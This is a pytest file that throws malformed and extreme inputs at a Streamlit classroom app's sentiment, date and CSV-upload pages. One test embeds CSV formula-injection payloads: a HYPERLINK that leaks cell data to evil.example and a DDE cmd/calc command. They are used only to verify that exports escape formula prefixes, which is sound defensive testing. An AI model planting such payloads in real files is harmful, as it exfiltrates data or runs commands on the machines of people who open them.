"""Whatever students type or upload: a clear message, no exception, and the session goes on.

Under AppTest, through the real widgets (by key). Each test sends one bad input, checks
the page answers it calmly, then sends a normal input in the same session and checks
that still works. Cases already in tests/test_app.py (empty and whitespace-only text,
emoji, punctuation only, HTML and markdown injection, a 500-character date, CSVs that
are empty, header-only, not UTF-8 or have a words-free column) are not repeated here.
"""

import csv
import inspect
import io
import tomllib

import pytest

from attnviz.classroom.export import FORMULA_PREFIXES
from tests.conftest import PROJECT_DIR, require_model

SENTIMENT = "app_pages/sentiment.py"
DATES = "app_pages/dates.py"
ONE_MB = 1_000_000
GARBAGE = bytes(range(256)).decode("latin-1") * 4  # every byte value, NUL and controls too
TEXTS = {
    "one_megabyte": ("a truly wonderful film with a brilliant cast " * 25_000)[:ONE_MB],
    "one_megabyte_without_spaces": "x" * ONE_MB,
    "binary_garbage": GARBAGE,
    "nul_bytes": "\x00" * 1000 + "great\x00film\x00",
    "rtl_arabic": "هذا الفيلم رائع جدا",
    "rtl_hebrew_mixed": "סרט נהדר, the best film of the year",
    "cjk": "这部电影非常好看。映画は素晴らしかった！",
    "zero_width_and_bidi_controls": "good\u200b film\u202e terrible\u202c \ufeff",
}


def html_text(at):
    return "\n".join(element.value for element in at.html)


def open_page(app, page):
    app.run()
    app.switch_page(page).run()
    assert not app.exception, app.exception
    return app


def explain(at, text):
    at.text_area(key="review_text").set_value(text)
    at.button(key="review_submit").click().run()
    assert not at.exception, at.exception
    return at


def convert(at, text):
    at.text_input(key="date_text").set_value(text)
    at.button(key="date_submit").click().run()
    assert not at.exception, at.exception
    return at


def assert_sentiment_still_works(at):
    at = explain(at, "A wonderful, moving film; I loved it.")
    assert "attnviz-verdict" in html_text(at)
    assert not at.error


def assert_dates_still_work(at):
    at = convert(at, "Sat, the 4th of July '76")
    assert "attnviz-output" in html_text(at)
    assert not at.error


@pytest.fixture
def sentiment_page(app):
    require_model("sentiment")
    return open_page(app, SENTIMENT)


@pytest.fixture
def dates_page(app):
    require_model("dates")
    return open_page(app, DATES)


# ------------------------------------------------------------------- sentiment


@pytest.mark.parametrize("name", sorted(TEXTS))
def test_sentiment_odd_text(sentiment_page, name):
    text = TEXTS[name]
    at = explain(sentiment_page, text)
    page = html_text(at)
    if "attnviz-verdict" in page:  # a result: the user's own text, kept (escaped)
        assert 'class="attnviz-text' in page
        if len(text) < 100:
            assert all(word in page for word in text.split() if word.isalpha())
    else:  # no word the model can read: a message, not an empty page
        assert at.warning, "text without readable words needs a message"
    assert_sentiment_still_works(at)


def test_sentiment_one_megabyte_reads_the_start_and_says_so(sentiment_page):
    at = explain(sentiment_page, TEXTS["one_megabyte"])
    assert any("first" in c.value for c in at.caption), [c.value for c in at.caption]
    assert at.session_state["sentiment_timing_ms"]["total"] < 30_000


# ----------------------------------------------------------------------- dates


@pytest.mark.parametrize("name", sorted(TEXTS))
def test_dates_odd_text(dates_page, name):
    at = convert(dates_page, TEXTS[name])
    page = html_text(at)
    assert "attnviz-output" in page or at.warning or at.info
    assert_dates_still_work(at)


def test_dates_in_other_scripts_name_the_unknown_characters(dates_page):
    at = convert(dates_page, "١٩٧٦年7月4日")
    captions = " ".join(c.value for c in at.caption)
    assert "年" in captions or "١" in captions, captions
    assert_dates_still_work(at)


# ------------------------------------------------------------------------- CSV


class Downloads:
    """Every file a page hands to a download button during the test, by URL file id."""

    def __init__(self, monkeypatch):
        from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

        self.files = {}
        original = MemoryMediaFileStorage.load_and_get_id
        files = self.files

        def load_and_get_id(storage, path_or_data, mimetype, kind, filename=None):
            file_id = original(storage, path_or_data, mimetype, kind, filename)
            files[file_id] = path_or_data
            return file_id

        monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", load_and_get_id)

    def of(self, button):
        file_id = button.proto.url.rsplit("/", 1)[-1].split(".")[0]
        return self.files[file_id]


def upload(at, content, name="reviews.csv"):
    at.radio(key="batch_source").set_value("upload").run()
    at.file_uploader(key="batch_file").set_value((name, content, "text/csv")).run()
    assert not at.exception, at.exception
    return at


def results_frame(at):
    frames = [d.value for d in at.dataframe if "top_words" in d.value.columns]
    return frames[0] if frames else None


def test_formula_cells_are_exported_as_text(sentiment_page, monkeypatch):
    downloads = Downloads(monkeypatch)
    rows = [
        ["text"],
        ['=HYPERLINK("http://evil.example/?leak="&A1,"great film, click")'],
        ["@SUM(1+1) a boring film"],
        ["+1 wonderful acting"],
        ["-2 awful plot"],
        ["=cmd|' /C calc'!A0 dreadful"],
        ["\tgood film with a tab"],
        ["A plain review that stays as it is."],
    ]
    content = io.StringIO()
    csv.writer(content).writerows(rows)
    at = upload(sentiment_page, content.getvalue().encode())
    assert len(results_frame(at)) == len(rows) - 1
    data = downloads.of(at.download_button(key="batch_download"))
    exported = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    texts = [row[0] for row in exported[1:]]
    assert texts[0].startswith("'=HYPERLINK(")
    for cell in (c for row in exported for c in row):
        assert not cell.startswith(FORMULA_PREFIXES), cell
    assert texts[-1] == "A plain review that stays as it is."


def test_fifty_megabyte_csv_is_refused_with_a_message(sentiment_page):
    big = b"text\n" + b"a fine film\n" * (50_000_000 // 12)
    at = upload(sentiment_page, big)
    assert results_frame(at) is None
    assert any("limit" in e.value and "MB" in e.value for e in at.error)
    at = upload(at, b"text\nA lovely film.\nDull.\n", name="small.csv")
    assert len(results_frame(at)) == 2


def test_the_server_caps_uploads():
    """The server refuses big uploads before the page sees them (server.maxUploadSize)."""
    from attnviz.classroom import export

    config = tomllib.loads((PROJECT_DIR / ".streamlit" / "config.toml").read_text())
    limit_mb = config["server"]["maxUploadSize"]
    assert 1 <= limit_mb <= 10
    # The page-level check is no looser than the server's (Streamlit counts MB as 2**20).
    page_limit = inspect.signature(export.read_csv_upload).parameters["max_bytes"].default
    assert page_limit <= limit_mb * 2**20


@pytest.mark.parametrize(
    "content",
    [
        b"text\n\x00\x00\x00\nnul\x00bytes in a review\n",
        "text\nكان الفيلم رائعا\n这部电影很好\n".encode(),
        b'"unclosed,quote\n' + b"x" * 100,
        b"\x89PNG\r\n\x1a\n" + bytes(range(256)),
        b"a,b\n1,2,3,4,5\n",
    ],
    ids=["nul_bytes", "rtl_cjk", "unclosed_quote", "binary_file", "ragged_rows"],
)
def test_odd_csv_then_a_good_one(sentiment_page, content):
    at = upload(sentiment_page, content, name="odd.csv")
    assert results_frame(at) is not None or at.error or at.warning
    at = upload(at, b"review\nA lovely film.\nDull and far too long.\n", name="good.csv")
    assert not at.error
    assert len(results_frame(at)) == 2
